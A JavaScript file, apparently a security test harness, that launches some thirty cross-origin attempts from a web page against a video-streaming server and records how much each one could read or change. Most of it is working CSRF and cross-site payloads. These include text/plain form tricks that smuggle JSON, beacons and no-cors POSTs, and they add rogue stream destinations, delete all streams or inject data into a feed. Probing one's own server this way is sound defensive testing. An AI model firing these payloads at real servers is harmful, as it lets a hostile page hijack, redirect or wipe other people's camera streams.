// Everything that a page can do to a server that is not its own. attack tries
// it all on a target and says of every attempt how much it could read.

const within = 3000; // ms for one attempt

function attack(target) {
  const socket = target.replace("http", "ws");
  const rule = '{"stream":"evil","feeds":[]}';
  const route = `{"id":"evil","stream":"cam","destination":"${socket}/in/evil"}`;
  const text = { "Content-Type": "text/plain" };

  const read = async (path, init) => {
    const answer = await fetch(target + path, { ...init, signal: AbortSignal.timeout(within) });
    const { value } = (await answer.body?.getReader().read()) ?? {};
    return value?.length ?? 0;
  };
  const element = (tag, attributes, size = () => 1) => new Promise((resolve, reject) => {
    const node = document.createElement(tag);
    node.onload = node.onloadeddata = () => resolve(size(node));
    node.onerror = reject;
    Object.assign(node, attributes);
    document.body.append(node);
  });
  const websocket = (path, message) => new Promise((resolve, reject) => {
    const ws = new WebSocket(socket + path);
    ws.onopen = () => ws.send(message);
    ws.onmessage = ({ data }) => resolve(data.length ?? data.size);
    ws.onerror = reject;
  });
  const form = (path, body) => new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = `frame${Math.random()}`;
    const node = document.createElement("form");
    Object.assign(node, { method: "POST", enctype: "text/plain", action: target + path, target: frame.name });
    const field = document.createElement("input");
    Object.assign(field, { name: `${body.slice(0, -1)},"x":"`, value: '"}' });
    node.append(field);
    document.body.append(frame, node);
    frame.onload = () => resolve(frame.contentDocument?.body.textContent.length ?? 0);
    node.submit();
  });
  const worker = () => new Promise((resolve, reject) => {
    const code = `try { importScripts("${target}/page/app.js"); postMessage(1); } catch { postMessage(0); }`;
    const made = new Worker(URL.createObjectURL(new Blob([code])));
    made.onmessage = ({ data }) => resolve(data);
    made.onerror = reject;
  });
  const events = () => new Promise((resolve, reject) => {
    const source = new EventSource(`${target}/api/events`);
    source.onmessage = ({ data }) => { source.close(); resolve(data.length); };
    source.onerror = () => { source.close(); reject(new Error("refused")); };
  });

  // The first word says what an open server would have to suffer: a read, a
  // change, or nothing, since the browser itself forbids it.
  const attempts = {
    "read: stats": () => read("/api/stats"),
    "read: rules": () => read("/api/destinations/all"),
    "read: feed": () => read("/ts/cam"),
    "read: picture": () => read("/preview/cam.jpg"),
    "read: metrics": () => read("/metrics"),
    "read: page": () => read("/"),
    "read: events": events,
    "read: image": () => element("img", { src: `${target}/preview/cam.jpg` }, (image) => image.naturalWidth),
    "read: script": () => element("script", { src: `${target}/page/app.js` }),
    "read: style": () => element("link", { rel: "stylesheet", href: `${target}/page/style.css` }),
    "read: module": async () => { await import(`${target}/page/app.js`); return 1; },
    "read: worker": worker,
    "read: websocket of a feed": () => websocket("/ws/cam", "x"),
    "change: websocket of commands": () => websocket("/ws/api", `{"verb":"add","what":"stream","rule":${rule}}`),
    "change: websocket into a feed": () => websocket("/ws/evil", "x"),
    "change: form": () => form("/api/streams", rule),
    "change: form for a destination": () => form("/api/destinations", route),
    "change: beacon": async () => { navigator.sendBeacon(`${target}/api/destinations`, new Blob([route], { type: "text/plain" })); return 0; },
    "change: simple post": () => read("/api/streams", { method: "POST", mode: "no-cors", headers: text, body: rule }),
    "change: simple post of a destination": () => read("/api/destinations", { method: "POST", mode: "no-cors", headers: text, body: route }),
    "change: simple post into a feed": () => read("/ts/evil", { method: "POST", mode: "no-cors", body: new Uint8Array(188 * 10).fill(0x47) }),
    "change: post": () => read("/api/streams", { method: "POST", headers: { "Content-Type": "application/json" }, body: rule }),
    "change: put": () => read("/api/destinations", { method: "PUT", body: route }),
    "change: mute": () => read("/api/mutes/*", { method: "PUT" }),
    "change: lock": () => read("/api/lock", { method: "PUT" }),
    "change: delete": () => read("/api/streams/all", { method: "DELETE" }),
    "change: delete destinations": () => read("/api/destinations/all", { method: "DELETE" }),
    "nothing: opaque stats": () => read("/api/stats", { mode: "no-cors" }),
    "nothing: opaque feed": () => read("/ts/cam", { mode: "no-cors" }),
    "nothing: video": () => element("video", { src: `${target}/ts/cam`, autoplay: true, muted: true }),
    "nothing: frame": () => element("iframe", { src: `${target}/` }, (frame) => frame.contentDocument?.body.textContent.length ?? 0),
    "nothing: frame of stats": () => element("iframe", { src: `${target}/api/stats` }, (frame) => frame.contentDocument?.body.textContent.length ?? 0),
    "nothing: object": () => element("object", { data: `${target}/api/stats` }, (o) => o.contentDocument?.body.textContent.length ?? 0),
  };
  const late = () => new Promise((resolve) => setTimeout(resolve, within, 0));
  return Promise.all(Object.entries(attempts).map(async ([what, attempt]) => {
    try {
      return [what, await Promise.race([attempt(), late()])];
    } catch {
      return [what, 0];
    }
  })).then((results) => {
    const sizes = performance.getEntriesByType("resource").filter((r) => r.name.startsWith(target)).map((r) => r.decodedBodySize);
    return [...results, ["nothing: sizes told", sizes.reduce((a, b) => a + b, 0)]];
  });
}
